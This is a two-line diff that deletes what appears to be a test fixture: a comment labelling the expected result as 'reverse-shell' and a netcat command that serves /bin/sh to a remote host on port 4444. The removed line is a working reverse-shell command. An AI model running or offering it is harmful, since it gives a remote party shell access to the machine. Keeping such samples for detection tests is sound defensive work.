@@ -1,2 +1,0 @@
-# expect: reverse-shell
-nc -e /bin/sh 10.0.0.1 4444
